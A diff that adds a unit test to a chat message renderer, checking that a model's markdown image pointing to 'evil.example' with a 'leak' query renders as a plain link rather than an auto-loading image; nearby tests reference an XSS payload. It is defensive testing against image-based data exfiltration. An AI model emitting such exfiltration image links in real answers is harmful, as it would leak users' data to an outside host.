@@ -33,6 +33,14 @@ describe("message rendering", () => {
     expect((window as unknown as { __xss?: number }).__xss).toBeUndefined();
   });
 
+  it("shows a model's image as a link, so nothing loads by itself", () => {
+    const { container } = render(<MessageView message={answer("![secret](https://evil.example/?q=leak)")} />);
+    expect(container.querySelector("img")).toBeNull();
+    const link = container.querySelector("a");
+    expect(link?.getAttribute("href")).toBe("https://evil.example/?q=leak");
+    expect(link?.getAttribute("rel")).toContain("noopener");
+  });
+
   it("keeps a user's HTML as plain text", () => {
     const user = { ...answer(XSS), role: "user" as const };
     const { container } = render(<MessageView message={user} />);
